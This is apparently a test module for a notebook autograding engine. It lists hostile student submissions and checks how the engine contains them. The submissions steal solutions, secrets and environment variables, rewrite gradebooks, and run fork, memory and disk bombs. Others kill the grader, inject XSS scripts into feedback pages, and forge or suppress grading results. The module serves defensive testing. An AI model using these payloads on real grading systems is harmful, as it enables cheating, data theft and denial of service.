"""Hostile submissions: what each tries, and how it must end.

    python -m tests.commands.grading.cases.hostile [NAME …]

prints what each does to plain nbgrader and to the engine.

A submission ends well with the score that its answers deserve (HONEST), as
TAMPERED without any automatic point, or with a reason that holds the words
given. Whatever the end: nothing is published, changed, called or left.
Bombs are bounded: they would harm, but never this machine.
"""

import contextlib
import os
import shutil
import sys
from collections.abc import Callable
from dataclasses import dataclass

from . import arena, course
from .arena import ESCAPED
from .course import AUTOMATIC, DAY, FILE

HONEST, TAMPERED = "the honest score", "tampered"

# Low, so that a hundred seconds of mischief take ten.
LIMITS = {"seconds_a_cell": 3, "seconds_a_notebook": 8,
          "memory": 1024 << 20, "processes": 64, "files": 64 << 20,
          "output": 1 << 20, "flood": 16 << 20}


@dataclass(frozen=True)
class Case:
    """One hostile submission."""
    tries: str
    submit: Callable          # (exercise, world) writes it
    honest: float             # automatic points that its answers deserve
    ends: tuple[str, ...]     # all the ends that are well
    limit: str = ""           # why it may succeed: a limit that is known


CASES: dict[str, Case] = {}


def case(name, tries, submit, honest, *ends, **more):
    CASES[name] = Case(tries, submit, honest, ends, **more)


# --- ways to hand in -------------------------------------------------------

def cheats(code: str, **answers: str):
    """No answer is known; code, run at the start, is to earn the points.

    answers: name → the code of an answer cell.
    """
    def submit(exercise, world):
        notebook = course.answered(exercise)
        for name in course.POINTS:
            course.cell(notebook, f"{name}-answer")["source"] = world.fill(
                answers.get(name, "# There is no answer."))
        course.insert(notebook, "total-answer", world.fill(code))
        course.hand_in(world.root, world.student, notebook)
    return submit


def knows(code: str, before="total-answer", files=None, change=None,
          **answers: str):
    """All answers are right (but those given); code does something else."""
    def submit(exercise, world):
        notebook = course.answered(exercise)
        for name, answer in answers.items():
            course.cell(notebook, f"{name}-answer")["source"] = world.fill(
                answer)
        if code:
            course.insert(notebook, before, world.fill(code))
        if change:
            change(notebook)
        folder = course.hand_in(world.root, world.student, notebook)
        if files:
            files(folder, world)
    return submit


def with_files(submit, files):
    """As submit, and files(folder, world) besides."""
    def both(exercise, world):
        submit(exercise, world)
        files(world.root / "submitted" / world.student / DAY, world)
    return both


# --- it reads --------------------------------------------------------------

TAKE_ANSWERS = """
import glob, json
def take(pattern):
    "Print all notebooks of this pattern, and take over their answers."
    for file in glob.glob(pattern, recursive=True, include_hidden=True):
        try:
            text = open(file, encoding="utf-8").read()
        except OSError:
            continue
        print(file, text)
        for cell in json.loads(text)["cells"]:
            if cell.get("id", "").endswith("-answer"):
                try:
                    exec("".join(cell["source"]), globals())
                except Exception:
                    pass
"""
case("reads-solutions", "reads the solutions, takes their answers",
     cheats(TAKE_ANSWERS + """
for place in ("@ROOT@", *glob.glob("/proc/[0-9]*/cwd"),
              *glob.glob("/proc/[0-9]*/root@ROOT@")):
    take(place + "/solutions/**/*.ipynb")
"""), 0, HONEST)
case("reads-others", "reads what others have handed in",
     cheats(TAKE_ANSWERS + """
for place in ("@ROOT@/submitted", "@ROOT@/autograded", "@ROOT@/.grading-*",
              "@TMP@", ".."):
    take(place + "/**/*.ipynb")
"""), 0, HONEST)
case("reads-gradebook", "reads everybody's scores",
     knows("""
import sqlite3
try:
    book = sqlite3.connect("file:@ROOT@/gradebook.db?mode=ro", uri=True)
    print(book.execute("SELECT * FROM student").fetchall())
except sqlite3.Error as error:
    print(error)
"""), AUTOMATIC, HONEST)
case("reads-environment", "reads the grader's passwords",
     knows("""
import glob, os
print(dict(os.environ))
for file in glob.glob("/proc/[0-9]*/environ"):
    try:
        print(open(file, "rb").read())
    except OSError:
        pass
"""), AUTOMATIC, HONEST)
case("reads-hidden-tests", "prints the cell that calls its function",
     knows("", total="""
def total(rows):
    print(get_ipython().user_ns["In"][-1])
    return sum(row["beds"] for row in rows)
"""), AUTOMATIC, HONEST)
case("reads-hidden-tests-coded", "shows all cells that ran, in base64",
     knows("""
import base64
from IPython.display import HTML
text = "\\n".join(get_ipython().user_ns["In"])
HTML("<p>" + base64.b64encode(text.encode()).decode() + "</p>")
""", before="why"), AUTOMATIC, HONEST)
case("reads-hidden-tests-error", "raises the hidden test as its error",
     knows("", total="""
def total(rows):
    raise ValueError(" ".join(get_ipython().user_ns["In"][-1].split()))
"""), AUTOMATIC - 3, HONEST)
case("reads-hidden-tests-error-coded", "the same in base64",
     knows("", total="""
import base64
def total(rows):
    cell = get_ipython().user_ns["In"][-1]
    raise ValueError(base64.b64encode(cell.encode()).decode())
"""), AUTOMATIC - 3, HONEST, limit="the words of a trainee's own error are "
     "shown, and may mean anything")
case("reads-hidden-tests-traceback", "fails so that a traceback shows it",
     knows("", total="""
def total(rows):
    if len(rows) == 1:  # a visible test
        return sum(row["beds"] for row in rows)
    raise KeyboardInterrupt
"""), AUTOMATIC - 3, HONEST)
case("reads-hidden-tests-frames", "takes the source from its caller's frame",
     knows("", total="""
import linecache, sys
def total(rows):
    code = sys._getframe(1).f_code
    print(linecache.getlines(code.co_filename), code.co_consts)
    return sum(row["beds"] for row in rows)
"""), AUTOMATIC, HONEST)
READ_ENGINE = """
import gc, glob, sys, types
from pathlib import Path
import helpers
def engine(name):
    return str(name).split(".")[0] == "commands"
print("modules of the engine:", [name for name in sys.modules if engine(name)])
for name in ("commands", "commands.grading", "commands.grading.guard"):
    try:
        print("imported", __import__(name, fromlist=["x"]).__doc__)
    except (ImportError, OSError) as error:
        print(f"{name}: {type(error).__name__}")
for file in Path(helpers.__file__).parents[1].glob("commands/**/*.py*"):
    try:
        print(file, file.read_text())
    except OSError:
        pass
gc.unfreeze()  # what the parent has put aside
things, frame = gc.get_objects(), sys._getframe()
while frame:
    things += [frame.f_globals, frame.f_locals]
    frame = frame.f_back
for thing in things:
    if type(thing) is dict and engine(thing.get("__name__")):
        print("names of", thing["__name__"], thing.get("__doc__"))
    elif type(thing) is types.FunctionType and (
            "/commands/" in thing.__code__.co_filename):
        print(thing.__code__.co_filename, thing.__doc__, thing.__code__
              .co_consts, thing.__globals__.get("__doc__"))
"""
case("reads-engine", "reads the grading engine: files, modules, memory",
     knows(READ_ENGINE), AUTOMATIC, HONEST)


# --- it writes -------------------------------------------------------------

case("writes-gradebook", "gives others -396 points",
     knows("""
import sqlite3
try:
    book = sqlite3.connect("@ROOT@/gradebook.db", timeout=1)
    book.execute("UPDATE grade SET auto_score = -396")
    book.commit()
    book.close()
except sqlite3.Error as error:
    print(error)
"""), AUTOMATIC, HONEST)
case("writes-others", "empties what others have handed in",
     knows("""
import glob
for file in glob.glob("@ROOT@/submitted/*/*/*.ipynb"):
    if "@STUDENT@" not in file:
        try:
            open(file, "w").close()
        except OSError:
            pass
"""), AUTOMATIC, HONEST)
case("writes-course", "changes solutions and settings, writes everywhere",
     knows("""
import glob, os, sys
from pathlib import Path
import helpers
places = ["@ROOT@", "@ROOT@/solutions/day1_production", "@ROOT@/submitted",
          "@HOME@", "@TMP@", "@RUNTIME@", os.path.dirname(helpers.__file__),
          sys.prefix, "/tmp", "/var/tmp", "/dev/shm"]
for place in places:
    try:
        Path(place, "%s@STUDENT@").write_text("here")
    except OSError:
        pass
for file in ["@ROOT@/nbgrader_config.py", "@HOME@/.profile",
             "@ROOT@/solutions/day1_production/beds.csv"]:
    try:
        with open(file, "a") as there:
            there.write("# changed")
    except OSError:
        pass
""" % ESCAPED), AUTOMATIC, HONEST)


def link(name, target, folder=False):
    """Put a symbolic link into the submission."""
    def files(there, world):
        (there / name).unlink(missing_ok=True)
        (there / name).symlink_to(world.fill(target), folder)
    return files


case("links-to-gradebook", "hands in a link to the gradebook, reads it",
     knows("""
import os
if os.path.exists("notes.db"):
    print(open("notes.db", "rb").read().decode("latin-1"))
""", files=link("notes.db", "@ROOT@/gradebook.db")),
     AUTOMATIC, "link")
case("links-to-solutions", "hands in a link to the folder of solutions",
     with_files(cheats(TAKE_ANSWERS + 'take("more/**/*.ipynb")'),
                link("more", "@ROOT@/solutions", True)), 0, "link")
case("links-as-notebook", "hands in a link to a neighbour's notebook",
     with_files(cheats(""), link(
         FILE, f"@ROOT@/submitted/{arena.FIRST}/{DAY}/{FILE}")), 0, "link")


# --- it uses up ------------------------------------------------------------

case("fork-bomb", "starts 400 processes",
     knows("""
import os, time
for _ in range(400):
    if os.fork() == 0:
        time.sleep(30)
        os._exit(0)
"""), AUTOMATIC, HONEST, "process", "stopped", "memory", "second")
case("memory-bomb", "takes 3 GB of memory",
     knows("hog = [bytearray(b'x') * (50 << 20) for _ in range(60)]"),
     AUTOMATIC, HONEST, "memory", "stopped")
case("memory-bomb-of-many", "takes 3 GB in many small processes",
     knows("""
import os, time
for _ in range(30):
    if os.fork() == 0:
        hog = bytearray(b"x") * (100 << 20)
        time.sleep(2)
        os._exit(0)
time.sleep(1.5)
"""), AUTOMATIC, HONEST, "memory", "stopped", "second")
case("disk-fill", "writes 300 MB to every place it may write to",
     knows("""
for number in range(30):
    for place in (".", "/tmp", "/dev/shm", "@TMP@"):
        try:
            with open(f"{place}/fill-{number}", "wb") as file:
                file.write(b"x" * (10 << 20))
        except OSError:
            pass
"""), AUTOMATIC, HONEST, "memory", "disk", "stopped")
case("output-flood", "prints 1 GB",
     knows("for _ in range(1024):\n    print('x' * (1 << 20))"),
     AUTOMATIC, HONEST, "output", "print", "stopped", "second")
case("log-flood", "writes 300 MB past the notebook, to the terminal",
     knows("""
import os
for _ in range(300):
    os.write(1, b"x" * (1 << 20))
    os.write(2, b"y" * (1 << 20))
"""), AUTOMATIC, HONEST, "output", "print", "stopped", "second")
case("error-flood", "fails with a message of 20 MB",
     knows("", total="""
def total(rows):
    raise ValueError("x" * (20 << 20))
"""), AUTOMATIC - course.POINTS["total"], HONEST, "output", "print",
     "stopped", "second")
case("display-flood", "shows a hundred thousand small things",
     knows("for n in range(100_000):\n    display(n)"),
     AUTOMATIC, HONEST, "output", "print", "second")
case("widget-flood", "sends 300 MB as the state of widgets",
     knows("""
kernel = get_ipython().kernel
for n in range(300):
    kernel.session.send(kernel.iopub_socket, "comm_open", {
        "comm_id": f"w{n}", "target_name": "jupyter.widget",
        "data": {"state": {
            "_model_module": "m", "_model_name": "n",
            "_model_module_version": "1", "value": "x" * (1 << 20)}}},
        parent=kernel.get_parent("shell"))
"""), AUTOMATIC, HONEST, "output", "print", "stopped", "second")
case("reply-flood", "answers each request with 100 MB",
     knows("""
session = get_ipython().kernel.session
send = session.send
def more(stream, kind, content=None, *rest, **named):
    if kind == "execute_reply":
        content = {**content, "user_expressions": {"x": "x" * (100 << 20)}}
    return send(stream, kind, content, *rest, **named)
session.send = more
"""), AUTOMATIC, HONEST, TAMPERED, "output", "print", "stopped", "second",
     "memory")


def endless_page(exercise, world):
    """Text for which nbconvert's Markdown needs hours (it looks for the end
    of each formula that begins)."""
    notebook = course.answered(exercise)
    course.insert(notebook, "total-answer",
                  "\\begin{a}" * 200_000, "markdown")
    course.hand_in(world.root, world.student, notebook)


case("endless-page", "writes text that takes hours to convert to a page",
     endless_page, AUTOMATIC, HONEST, "page", "text", "second")
case("hundred-slow-cells", "runs a hundred cells, each nearly too slow",
     knows("", change=lambda notebook: [
         course.insert(notebook, "total-answer",
                       "import time\ntime.sleep(0.9)")
         for _ in range(100)]), AUTOMATIC, "second", "time")


def huge(exercise, world):
    """A notebook with an output of 100 MB, as a printing loop leaves it."""
    notebook = course.answered(exercise)
    printed = course.insert(notebook, "total-answer", "print('x')")
    printed["outputs"] = [{"output_type": "stream", "name": "stdout",
                           "text": "x" * (100 << 20)}]
    course.hand_in(world.root, world.student, notebook)


case("huge-notebook", "hands in a notebook of 100 MB", huge,
     AUTOMATIC, HONEST, "large", "big", "MB")


# --- it does not end -------------------------------------------------------

case("os-exit", "ends Python while it is checked",
     knows("", share="""
import os
def share(rows, centre):
    os._exit(0)
"""), course.POINTS["total"], "stopped")
case("ignores-interrupts", "loops, and catches every interrupt",
     knows("", share="""
import signal
signal.signal(signal.SIGINT, signal.SIG_IGN)
def share(rows, centre):
    while True:
        try:
            while True:
                pass
        except BaseException:
            pass
"""), course.POINTS["total"], "second", "time")
case("refuses-to-end", "sleeps when Python is to end",
     knows("""
import atexit, signal, time
signal.signal(signal.SIGTERM, signal.SIG_IGN)
atexit.register(time.sleep, 300)
"""), AUTOMATIC, HONEST)
case("daemon", "leaves a process behind",
     knows("""
import os, signal, time
if os.fork() == 0:
    os.setsid()
    if os.fork() == 0:
        for number in (signal.SIGINT, signal.SIGTERM, signal.SIGHUP):
            signal.signal(number, signal.SIG_IGN)
        time.sleep(300)
    os._exit(0)
"""), AUTOMATIC, HONEST)
case("kills-grader", "kills the process that started it",
     knows("""
import os, signal
for kill, pid in ((os.kill, os.getppid()), (os.killpg, os.getppid())):
    try:
        if pid > 1:
            kill(pid, signal.SIGKILL)
    except OSError:
        pass
"""), AUTOMATIC, HONEST, "stopped")
case("stops-itself", "sends itself the signal to sleep",
     knows("import os, signal\nos.kill(os.getpid(), signal.SIGSTOP)"),
     AUTOMATIC, HONEST, "second", "time", "stopped")
case("drops-replies", "runs, but never says that it has ended",
     knows("""
session = get_ipython().kernel.session
send = session.send
def quiet(stream, kind, *more, **named):
    if kind not in ("execute_reply", "status"):
        return send(stream, kind, *more, **named)
session.send = quiet
"""), AUTOMATIC, HONEST, TAMPERED, "second", "time", "stopped")


# --- it calls --------------------------------------------------------------

case("network", "connects to a program on this machine",
     knows("""
import socket
word = b"GET /@STUDENT@ HTTP/1.0\\r\\n\\r\\n"
for family, kind, address in (
        (socket.AF_INET, socket.SOCK_STREAM, ("127.0.0.1", @PORT@)),
        (socket.AF_INET, socket.SOCK_DGRAM, ("127.0.0.1", @PORT@)),
        (socket.AF_UNIX, socket.SOCK_STREAM, "\\0canary-@PORT@")):
    try:
        with socket.socket(family, kind) as caller:
            caller.settimeout(1)
            caller.connect(address)
            caller.send(word)
    except OSError as error:
        print(error)
"""), AUTOMATIC, HONEST)
case("sockets-of-others", "looks for other kernels' connections, calls them",
     knows("""
import glob, json, os, socket
from jupyter_core.paths import jupyter_runtime_dir
for file in glob.glob("@RUNTIME@/*.json") + glob.glob(
        jupyter_runtime_dir() + "/*.json"):
    try:
        text = open(file).read()
        print(text)
        with socket.create_connection(
                ("127.0.0.1", json.loads(text)["shell_port"]), 1) as there:
            there.send(b"@STUDENT@: shut down")
    except (OSError, ValueError, KeyError) as error:
        print(error)
"""), AUTOMATIC, HONEST)

SCRIPTS = """\
<script>window.owned = 1; fetch("http://127.0.0.1:@PORT@/@STUDENT@")</script>
<img src="http://127.0.0.1:@PORT@/@STUDENT@" onerror="window.owned = 2">
<svg onload="window.owned = 3"></svg>
<iframe srcdoc="<script>parent.owned = 4</script>"></iframe>
<details open ontoggle="window.owned = 5">x</details>
<a href="javascript:window.owned = 6" id="click">a link</a>
<meta http-equiv="refresh" content="0; url=http://127.0.0.1:@PORT@/@STUDENT@">
<form action="http://127.0.0.1:@PORT@/@STUDENT@"><button id="send">
Send</button></form>
<style>@import url("http://127.0.0.1:@PORT@/@STUDENT@");</style>"""


def scripts(exercise, world):
    """Scripts in outputs of all kinds, in Markdown and in a file's name."""
    notebook = course.answered(exercise)
    bad = world.fill(SCRIPTS)
    course.insert(notebook, "total-answer", "from IPython.display import *\n"
                  f"bad = {bad!r}\n" + """\
display(HTML(bad), Markdown(bad), Javascript("window.owned = 7"))
display(SVG("<svg xmlns='http://www.w3.org/2000/svg'>"
            "<script>window.owned = 8</script></svg>"))
display({"text/html": bad, "text/latex": bad, "text/plain": bad}, raw=True)
print(bad)""")
    course.insert(notebook, "total-answer", bad, "markdown")
    course.cell(notebook, "why")["source"] = bad
    folder = course.hand_in(world.root, world.student, notebook)
    (folder / "<img src=x onerror='window.owned=9'>.ipynb").write_text("{}")


case("scripts", "puts scripts into the page of feedback", scripts,
     AUTOMATIC, HONEST)


# --- it cheats -------------------------------------------------------------

ANYTHING = dict.fromkeys(course.POINTS, "total = share = largest = len")

case("silenced-traceback", "switches off the display of errors",
     cheats("""
get_ipython().showtraceback = lambda *a, **k: None
get_ipython()._showtraceback = lambda *a, **k: None
""", **ANYTHING), 0, HONEST, TAMPERED)
case("custom-exception-handler", "handles every error itself, silently",
     cheats("get_ipython().set_custom_exc("
            "(BaseException,), lambda *a, **k: None)", **ANYTHING),
     0, HONEST, TAMPERED)
case("errors-dropped", "keeps messages about errors in the kernel",
     cheats("""
session = get_ipython().kernel.session
send = session.send
def quiet(stream, kind, *more, **named):
    if kind != "error":
        return send(stream, kind, *more, **named)
session.send = quiet
""", **ANYTHING), 0, HONEST, TAMPERED)
case("errors-cleared", "clears each cell's output after it has run",
     cheats("""
from IPython.display import clear_output
get_ipython().events.register("post_run_cell", lambda *a: clear_output())
""", **ANYTHING), 0, HONEST, TAMPERED)
case("replies-forged", "answers that all went well",
     cheats("""
session = get_ipython().kernel.session
send = session.send
def well(stream, kind, content=None, *more, **named):
    if getattr(kind, "get", None) or kind == "error":
        return None
    if kind == "execute_reply":
        content = {"status": "ok", "payload": [], "user_expressions": {},
                   "execution_count": content.get("execution_count")}
    return send(stream, kind, content, *more, **named)
session.send = well
""", **ANYTHING), 0, HONEST, TAMPERED)
case("asserts-stripped", "takes the checks out of the syntax tree",
     cheats("""
import ast
class Strip(ast.NodeTransformer):
    def visit_With(self, node):
        return ast.Pass()
    visit_Assert = visit_Raise = visit_With
get_ipython().ast_transformers.append(Strip())
"""), 0, HONEST, TAMPERED)
case("run-cell-hook", "runs `pass` instead of each cell",
     cheats("""
shell = get_ipython()
run = shell.run_cell_async
def nothing(code, *more, **named):
    named.pop("transformed_cell", None)
    return run("pass", *more, transformed_cell="pass", **named)
shell.run_cell_async = nothing
"""), 0, HONEST, TAMPERED)
case("input-hook", "transforms each cell into `pass`",
     cheats("get_ipython().input_transformers_cleanup.append("
            "lambda lines: ['pass\\n'])"), 0, HONEST, TAMPERED)
case("input-hook-aimed", "turns only cells with a known title into `pass`",
     cheats("""
def aimed(lines):
    known = ("Task 1 · ", "Task 2 · ", "Task 3 · ")
    graded = any(title in line for line in lines for title in known)
    return ["pass\\n"] if graded else lines
get_ipython().input_transformers_cleanup.append(aimed)
"""), 0, HONEST, TAMPERED)
case("check-replaced", "has a `check` of its own",
     cheats("""
class check:
    def __getattr__(self, name):
        return lambda *a, **k: self
    def __enter__(self):
        return self
    def __exit__(self, *error):
        return True
check = check()
"""), 0, HONEST, TAMPERED)
case("module-replaced", "puts its own helpers.check among the modules",
     cheats("""
import sys, types
class Task:
    def __init__(self, *a, **k): pass
    def __enter__(self): return self
    def __exit__(self, *error): return True
check = types.ModuleType("helpers.check")
check.task = Task
import helpers
helpers.check = sys.modules["helpers.check"] = check
"""), 0, HONEST, TAMPERED)
case("task-patched", "patches helpers.check.task",
     cheats("check.task.__exit__ = lambda *a: True"), 0, HONEST, TAMPERED)
case("checks-patched", "patches the single checks",
     cheats("""
check.equal = check.close = lambda *a, **k: None
""", **ANYTHING), 0, HONEST, TAMPERED)
case("feedback-patched", "makes the error of a check one that passes",
     cheats("""
class Quiet(Exception):
    def __new__(cls, *a, **k): raise StopIteration
def leave(self, kind, error, traceback): return True
check.Feedback, check.task.__exit__ = Quiet, leave
""", **ANYTHING), 0, HONEST, TAMPERED)

ALWAYS_EQUAL = """
class Anything(float):
    __class__ = property(lambda self: int)
    def __eq__(self, other): return True
    def __ne__(self, other): return False
    __lt__ = __gt__ = __le__ = __ge__ = __eq__
    __hash__ = float.__hash__
    def __sub__(self, other): return 0.0
    __rsub__ = __abs__ = __sub__
    __float__ = lambda self: 0.0
total = share = largest = lambda *a: Anything(1)
"""
case("always-equal", "answers with an object that equals everything",
     cheats(ALWAYS_EQUAL), 0, HONEST, TAMPERED)
case("builtins-patched", "patches `abs` and `type`, answers with such one",
     cheats(ALWAYS_EQUAL + """
import builtins
builtins.abs = lambda value: 0.0
check.type = lambda value: int
share = lambda *a: 1
"""), 0, HONEST, TAMPERED)
GUESS = """
import ast, sys
def expected(frame):
    "The value that stands after the call, in the caller's code."
    tree = ast.parse(get_ipython().user_ns["In"][-1])
    for call in ast.walk(tree):
        if isinstance(call, ast.Call) and len(call.args) > 1 and (
                call.lineno <= frame.f_lineno <= call.end_lineno):
            return eval(ast.unparse(call.args[1]), frame.f_globals,
                        frame.f_locals)
"""
case("constants-read", "takes expected values from the check's own code",
     cheats(GUESS + """
total = share = largest = lambda *a: expected(sys._getframe(1))
"""), 0, HONEST, TAMPERED)
case("constants-remembered", "the same, once, and remembers them",
     cheats(GUESS + """
seen = {}
def guess(*arguments):
    asked = repr(arguments)
    if asked not in seen:
        seen[asked] = expected(sys._getframe(1))
    return seen[asked]
total = share = largest = guess
"""), 0, HONEST, TAMPERED, limit="what runs beside a check can read what it "
     "expects; answers are for a person to look at")

PUBLISH = """
kernel = get_ipython().kernel
def publish(text):
    kernel.session.send(
        kernel.iopub_socket, "execute_result", {
            "execution_count": 1, "metadata": {},
            "data": {"text/plain": text}},
        parent=kernel.get_parent("shell"), ident=b"execute_result")
"""
case("partial-credit", "publishes full partial credit, then fails",
     cheats(PUBLISH, total="total = lambda rows: publish('3')",
            share="share = lambda *a: publish('2')",
            largest="largest = lambda *a: publish('4')"),
     0, HONEST, TAMPERED)
case("partial-credit-word", "publishes a result that is no number",
     cheats(PUBLISH + "total = share = largest = "
            "lambda *a: publish('full')"), 0, HONEST, TAMPERED)
case("partial-credit-too-much", "publishes a million points",
     cheats(PUBLISH + "total = share = largest = lambda *a: publish('1e6')"),
     0, HONEST, TAMPERED, "could not be graded")
case("partial-credit-none", "publishes a result without a text",
     cheats(PUBLISH.replace('"text/plain": text', '"text/html": text')
            + "total = share = largest = lambda *a: publish('3')"),
     0, HONEST, TAMPERED, "could not be graded")


def skipped(notebook):
    """The check cells say that they are not to be run, and have passed."""
    for name in course.POINTS:
        course.cell(notebook, f"{name}-answer")["source"] = "pass"
        checked = course.cell(notebook, name)
        checked["metadata"]["tags"] = ["skip-execution", "raises-exception"]
        checked["outputs"] = [{"output_type": "stream", "name": "stdout",
                               "text": "right."}]


case("skip-execution", "tags the check cells so that they are not run",
     knows("", change=skipped), 0, HONEST, TAMPERED)


def shadows(name):
    """Hand in a module that Python finds before the real one."""
    fake = ("class task:\n"
            "    def __init__(self, *a, **k): pass\n"
            "    def __enter__(self): return self\n"
            "    def __exit__(self, *error): return True\n")

    def files(folder, world):
        (folder / name).parent.mkdir(exist_ok=True)
        (folder / name).write_text(fake)
        (folder / name).with_name("__init__.py").touch()
    return files


case("helpers-handed-in", "hands in a package `helpers` of its own",
     with_files(cheats("""
import sys
sys.path.insert(0, ".")
for name in [name for name in sys.modules if name.startswith("helpers")]:
    del sys.modules[name]
from helpers import check
"""),
                shadows("helpers/check/")), 0, HONEST, TAMPERED)
case("startup-handed-in", "hands in files that Python or IPython start with",
     with_files(cheats(""), lambda folder, world: [
         (folder / name).write_text(world.fill(
             "open('@ROOT@/%s@STUDENT@', 'w').close()\n" % ESCAPED))
         for name in ("sitecustomize.py", "usercustomize.py", "csv.py",
                      "ipython_config.py", "nbgrader_config.py",
                      "jupyter_config.py")]), 0, HONEST, TAMPERED)


def pipe(folder, world):
    """A named pipe, which whoever reads it waits for."""
    os.mkfifo(folder / "notes.csv")


case("named-pipe", "hands in a file that never ends",
     knows("", files=pipe), AUTOMATIC, HONEST, "notes.csv")


# --- what happened ---------------------------------------------------------

def harm(outcome: arena.Outcome, name: str) -> list[str]:
    """What a hostile submission has achieved, in words; empty: nothing."""
    result, told = outcome.results[name], []
    if not outcome.finished:
        told.append(f"the batch: {outcome.error.splitlines()[0][:60]}")
    honest = CASES[name].honest
    if result.score > honest and not result.tampered:
        told.append(f"{result.score:g} points instead of {honest:g}")
    elif result.score < honest and not result.reasons:
        told.append(f"{honest - result.score:g} points lost, no reason told")
    # plain nbgrader shows the hidden tests to everybody, also unasked
    secrets = [secret for secret in result.published if "hidden" in name
               or secret != course.HIDDEN_SECRET]
    for kind, things in (("published", secrets),
                         ("wrote", result.escaped),
                         ("changed", outcome.changed),
                         ("left running", outcome.left),
                         ("called", result.called)):
        if things:
            told.append(f"{kind} {', '.join(t[-40:] for t in things[:3])}"
                        + f" and {len(things) - 3} more" * (
                            len(things) > 3))
    for student in (arena.FIRST, arena.LAST):
        score = outcome.gradebook.get(student)
        if outcome.finished and score != AUTOMATIC:
            told.append(f"{student} has {score}")
    if "<script>window.owned" in result.page:
        told.append("its scripts are in the page of feedback")
    if outcome.most > 200:
        told.append(f"{outcome.most} processes at the same time")
    if outcome.megabytes > 2000:
        told.append(f"{outcome.megabytes:,.0f} MB of memory")
    if result.megabytes > 50:
        told.append(f"{result.megabytes:,.0f} MB on the disk")
    return told


def plain(name: str) -> list[str]:
    """What a hostile submission does to plain nbgrader, locked up."""
    folder = arena.scratch()
    try:
        return harm(arena.grade(folder, {name: CASES[name].submit}, "plain",
                                arena.SECONDS_PLAIN), name)
    finally:
        shutil.rmtree(folder, ignore_errors=True)


def engine(names) -> arena.Outcome:
    """What hostile submissions do to the engine, all in one batch."""
    return arena.grade(arena.scratch(), {
        name: CASES[name].submit for name in names}, limits=LIMITS)


def end(result: arena.Result, honest: float) -> str:
    """How a submission ended, in one line."""
    if result.tampered:
        return TAMPERED
    score = f"{result.score:g} of {AUTOMATIC}"
    return f"{score}: {result.says[:70]}" if result.reasons else score


def main(names) -> None:
    """Print the table."""
    names = names or list(CASES)
    outcome = engine(names)
    shutil.rmtree(outcome.root.parent, ignore_errors=True)
    print("case | plain nbgrader | the engine")
    for name in names:
        told = plain(name)
        through = end(outcome.results[name], CASES[name].honest)
        bad = [word for word in harm(outcome, name)
               if not word.startswith(("left", "changed"))]
        print(f"{name} | {'; '.join(told) or 'nothing'} | {through}"
              + f" {'; '.join(bad)}".rstrip(), flush=True)
    print(f"engine: {len(names)} hostile submissions and two honest ones in "
          f"{outcome.seconds:.0f} s; changed {outcome.changed}, left "
          f"{outcome.left}")


if __name__ == "__main__":
    with contextlib.suppress(KeyboardInterrupt):
        main(sys.argv[1:])
